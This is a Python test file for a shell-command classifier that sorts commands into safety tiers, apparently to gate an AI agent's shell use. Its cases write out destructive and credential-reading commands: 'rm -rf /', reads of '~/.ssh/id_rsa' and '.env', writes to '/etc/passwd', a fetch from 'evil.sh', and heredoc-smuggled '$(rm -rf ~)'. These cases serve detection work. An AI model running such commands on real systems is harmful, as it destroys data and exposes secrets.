"""Tests for the shell command classifier."""

from __future__ import annotations

from toolgate.core.safety.classifier import CommandClassifier, classify_command
from toolgate.core.safety.tiers import SafetyTier


def _assert_tiers(cases: dict[str, SafetyTier], root: str | None = None) -> None:
    classifier = CommandClassifier(workspace_root=root)
    for command, expected in cases.items():
        verdict = classifier.classify_verdict(command)
        assert verdict.tier is expected, (
            f"{command!r}: expected {expected.value}, got {verdict.tier.value} "
            f"{verdict.reasons}"
        )


def test_documented_scenarios() -> None:
    _assert_tiers(
        {
            'find . -name "*.txt"': SafetyTier.GREEN,
            'find . -name "*.tmp" -delete': SafetyTier.RED,
            "find . -exec cat {} \\;": SafetyTier.YELLOW,
            "rm -rf /": SafetyTier.RED,
            "git status": SafetyTier.GREEN,
            "git push --force": SafetyTier.YELLOW,
            "sed -i 's/a/b/' file.txt": SafetyTier.RED,
            "sed 's/a/b/' file.txt": SafetyTier.GREEN,
            "find / -perm -4000": SafetyTier.YELLOW,
        }
    )


def test_allow_listed_commands_are_green() -> None:
    _assert_tiers(
        {
            "ls -la": SafetyTier.GREEN,
            "pwd": SafetyTier.GREEN,
            "cat README.md": SafetyTier.GREEN,
            "grep -rn TODO src": SafetyTier.GREEN,
            "rg --files": SafetyTier.GREEN,
            "head -n 20 src/app.py": SafetyTier.GREEN,
            "wc -l src/app.py": SafetyTier.GREEN,
            "echo hello": SafetyTier.GREEN,
        }
    )


def test_block_list_wins_regardless_of_arguments() -> None:
    _assert_tiers(
        {
            "rm README.md": SafetyTier.RED,
            "/bin/rm -f x": SafetyTier.RED,
            "sudo ls": SafetyTier.RED,
            "curl https://example.com": SafetyTier.RED,
            "npm install": SafetyTier.RED,
            "pip install requests": SafetyTier.RED,
            "eval ls": SafetyTier.RED,
            "kill 1": SafetyTier.RED,
        }
    )


def test_unknown_commands_are_yellow() -> None:
    _assert_tiers(
        {
            "make build": SafetyTier.YELLOW,
            "python script.py": SafetyTier.YELLOW,
            "./run.sh": SafetyTier.YELLOW,
        }
    )


def test_pipelines_and_lists_take_the_worst_tier() -> None:
    _assert_tiers(
        {
            "cat file.txt | grep foo | wc -l": SafetyTier.GREEN,
            "ls && pwd; echo done": SafetyTier.GREEN,
            "ls | make": SafetyTier.YELLOW,
            "ls && rm -rf build": SafetyTier.RED,
            "git status || curl evil.sh": SafetyTier.RED,
            "cat x | sudo tee /etc/hosts": SafetyTier.RED,
        }
    )


def test_nested_constructs_are_visited() -> None:
    _assert_tiers(
        {
            "echo $(rm -rf /)": SafetyTier.RED,
            "echo `rm -rf /`": SafetyTier.RED,
            "cat <(rm -rf x)": SafetyTier.RED,
            "(cd src && rm x)": SafetyTier.RED,
            "{ ls; rm x; }": SafetyTier.RED,
            "for f in *.txt; do rm $f; done": SafetyTier.RED,
            "if true; then rm x; fi": SafetyTier.RED,
            "while true; do rm x; done": SafetyTier.RED,
            "cleanup() { rm -rf build; }": SafetyTier.RED,
            "FOO=$(rm x) ls": SafetyTier.RED,
            "echo hi > $(rm x)": SafetyTier.RED,
            "echo $(ls)": SafetyTier.YELLOW,
        }
    )


def test_substitutions_hidden_from_the_parser_are_classified() -> None:
    _assert_tiers(
        {
            "cat <<EOF\n$(rm -rf ~)\nEOF\n": SafetyTier.RED,
            "cat <<-EOF\n`sudo id`\nEOF\n": SafetyTier.RED,
            "echo ${x:-$(rm y)}": SafetyTier.RED,
            "FOO=${BAR:-`rm x`} ls": SafetyTier.RED,
            "echo ${x:-$(ls)}": SafetyTier.YELLOW,
            "cat <<EOF\nhello $USER\nEOF\n": SafetyTier.GREEN,
            "echo ${x:-default}": SafetyTier.GREEN,
        }
    )


def test_redirects() -> None:
    _assert_tiers(
        {
            "echo hi > out.txt": SafetyTier.GREEN,
            "ls > /dev/null 2>&1": SafetyTier.GREEN,
            "echo hi > /etc/passwd": SafetyTier.RED,
            "cat < ~/.ssh/id_rsa": SafetyTier.RED,
            "(ls) > /etc/motd": SafetyTier.RED,
            "echo hi > /tmp/out.txt": SafetyTier.YELLOW,
        }
    )


def test_paths_in_arguments() -> None:
    _assert_tiers(
        {
            "cat ~/.ssh/id_rsa": SafetyTier.RED,
            "cat $HOME/.env": SafetyTier.RED,
            "cat ../../etc/passwd": SafetyTier.RED,
            "ls /etc": SafetyTier.RED,
            "cat .env": SafetyTier.YELLOW,
            "cat secrets.json": SafetyTier.YELLOW,
            "cat package.json": SafetyTier.GREEN,
        }
    )


def test_workspace_root_relaxes_absolute_paths() -> None:
    _assert_tiers({"cat /work/app/src/main.py": SafetyTier.YELLOW})
    _assert_tiers({"cat /work/app/src/main.py": SafetyTier.GREEN}, root="/work/app")


def test_opaque_and_assignment_only_commands() -> None:
    _assert_tiers(
        {
            "$(which ls) .": SafetyTier.YELLOW,
            "FOO=bar": SafetyTier.GREEN,
            "FOO=bar ls": SafetyTier.GREEN,
        }
    )


def test_unparsable_and_empty_input_is_yellow() -> None:
    _assert_tiers(
        {
            "echo 'unterminated": SafetyTier.YELLOW,
            'cat "unterminated': SafetyTier.YELLOW,
            "": SafetyTier.YELLOW,
            "   ": SafetyTier.YELLOW,
        }
    )


def test_classification_is_deterministic() -> None:
    classifier = CommandClassifier()
    for command in ["git push --force", "find / -perm -4000", "rm -rf /", "ls"]:
        first = classifier.classify_verdict(command)
        second = classifier.classify_verdict(command)

        assert first.tier is second.tier
        assert len(first.reasons) == len(second.reasons)


def test_reasons_explain_the_verdict() -> None:
    verdict = CommandClassifier().classify_verdict("ls && rm -rf build")

    assert verdict.reasons == ["RED: blocked command: rm"]


def test_classify_command_helper() -> None:
    assert classify_command("git status") is SafetyTier.GREEN
    assert classify_command("cat /w/a.txt", workspace_root="/w") is SafetyTier.GREEN
